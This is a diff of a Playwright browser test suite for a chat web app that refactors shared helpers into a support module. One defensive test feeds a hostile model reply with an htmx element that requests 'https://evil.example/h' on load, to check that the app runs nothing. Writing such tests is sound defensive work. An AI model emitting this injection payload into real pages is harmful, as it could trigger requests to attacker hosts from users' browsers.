@@ -2,62 +2,23 @@
 
 import re
 import time
-from collections.abc import Callable, Iterator
+from collections.abc import Callable
 from typing import Any
 
 import pytest
 from playwright.sync_api import expect
 
 from chats.web.reasons import LEFT_OUT
-from tests.browser.desk import Person, must_be_quiet
-from tests.browser.product import SAVE_SERVER, Product
+from tests.browser.desk import Person
+from tests.browser.product import Product
 from tests.fakes.fake_server import FakeServer
-
-SLOW = "[[fake tokens=400 ms=30]]"
-
-
-@pytest.fixture(scope="module")
-def connected(browser: Any, product: Product, signed_in: Any, fake: FakeServer) -> str:
-    """The fake server, connected on the setup page as an operator does; its host."""
-    context = browser.new_context(storage_state=signed_in)
-    person = Person(context.new_page(), product)
-    page = person.page
-    person.open("/setup/")
-    page.get_by_label("Address").fill(fake.base_url)
-    page.get_by_label("Name", exact=True).fill("The test server")
-    page.locator(SAVE_SERVER).click()
-    expect(page.locator(".card", has_text="The test server")).to_contain_text("In use")
-    must_be_quiet(person)
-    context.close()
-    return fake.host
-
-
-@pytest.fixture
-def scripted(fake: FakeServer) -> Iterator[FakeServer]:
-    """The fake server without a script."""
-    yield fake
-    fake.configure(replies=[], faults=[])
-
-
-def choose(person: Person, model: str) -> None:
-    """Choose the model of a new chat."""
-    person.open("/chats/new")
-    person.page.locator("#model-picker > summary").click()
-    person.page.locator("#model-picker label", has_text=model).click()
-    person.page.keyboard.press("Escape")
-
-
-def begin(person: Person, text: str, *, model: str = "fake-chat") -> None:
-    """Start a chat with a model of the fake server."""
-    choose(person, model)
-    person.type(text)
-    expect(person.page.locator("#context-meter")).to_be_visible()
+from tests.support.browser_chats import SLOW_REPLY, start_chat_with_model
 
 
 def test_a_reply_is_stopped_in_the_middle_and_can_be_continued(
     admin: Person, connected: str
 ) -> None:
-    begin(admin, f"Count slowly {SLOW}")
+    start_chat_with_model(admin, f"Count slowly {SLOW_REPLY}")
     expect(admin.live).to_contain_text(" 5@")
     admin.page.keyboard.press("Escape")
 
@@ -75,7 +36,7 @@ def test_a_failed_reply_says_why_and_is_tried_again(
     admin: Person, connected: str, scripted: FakeServer
 ) -> None:
     scripted.configure(faults=[{"fault": "404", "match": "first try", "times": 1}])
-    begin(admin, "A first try")
+    start_chat_with_model(admin, "A first try")
 
     outcome = admin.page.locator(".notice--danger")
     expect(outcome.locator("code")).to_have_text("provider_rejected")
@@ -92,7 +53,7 @@ def test_a_reply_cut_by_a_filter_says_so_and_is_kept_only_if_wanted(
     admin: Person, connected: str, scripted: FakeServer
 ) -> None:
     scripted.configure(faults=[{"fault": "filter", "match": "filtered", "times": 1}])
-    begin(admin, "This is filtered [[fake tokens=5]]")
+    start_chat_with_model(admin, "This is filtered [[fake tokens=5]]")
 
     outcome = admin.page.locator(".notice--danger")
     expect(outcome.locator("code")).to_have_text("content_filtered")
@@ -125,7 +86,7 @@ window.heights = [];
 def test_words_never_go_back_when_a_message_is_sent_during_a_reply(
     admin: Person, connected: str
 ) -> None:
-    begin(admin, f"Count slowly {SLOW}")
+    start_chat_with_model(admin, f"Count slowly {SLOW_REPLY}")
     expect(admin.live).to_contain_text(" 25@")
     admin.value(WATCH)
     admin.type("And another thing")
@@ -139,7 +100,7 @@ def test_words_never_go_back_when_a_message_is_sent_during_a_reply(
 
 
 def test_a_message_sent_during_a_reply_waits_and_is_answered(admin: Person, connected: str) -> None:
-    begin(admin, "Count slowly [[fake tokens=200 ms=50]]")
+    start_chat_with_model(admin, "Count slowly [[fake tokens=200 ms=50]]")
     expect(admin.live).to_contain_text(" 3@")
     expect(admin.page.locator("#send")).to_have_text("Send next")
     admin.type("And then?")
@@ -156,7 +117,7 @@ def test_a_message_sent_during_a_reply_waits_and_is_answered(admin: Person, conn
 
 
 def test_a_reload_in_the_middle_keeps_the_text_and_goes_on(admin: Person, connected: str) -> None:
-    begin(admin, "Count slowly [[fake tokens=120 ms=30]]")
+    start_chat_with_model(admin, "Count slowly [[fake tokens=120 ms=30]]")
     expect(admin.live).to_contain_text(" 20@")
     admin.page.reload()
 
@@ -181,7 +142,7 @@ def test_a_hostile_reply_asks_nobody_and_runs_nothing(
         '<div hx-get="https://evil.example/h" hx-trigger="load">x</div> the end'
     )
     scripted.configure(replies=[{"text": hostile, "match": "be hostile"}])
-    begin(admin, "Please be hostile")
+    start_chat_with_model(admin, "Please be hostile")
 
     admin.wait_for_reply()
     expect(admin.reply).to_contain_text("the end")
@@ -198,7 +159,7 @@ def test_a_hostile_reply_asks_nobody_and_runs_nothing(
 def test_a_reply_in_another_chat_is_unread_until_it_is_seen(
     admin: Person, open_tab: Callable[..., Person], product: Product, signed_in: Any, connected: str
 ) -> None:
-    begin(admin, "Unread one [[fake tokens=100 ms=30]]")
+    start_chat_with_model(admin, "Unread one [[fake tokens=100 ms=30]]")
     expect(admin.live).to_be_visible()
     admin.open("/chats/new")
     item = admin.page.locator("#chat-list li", has_text="Unread one").first
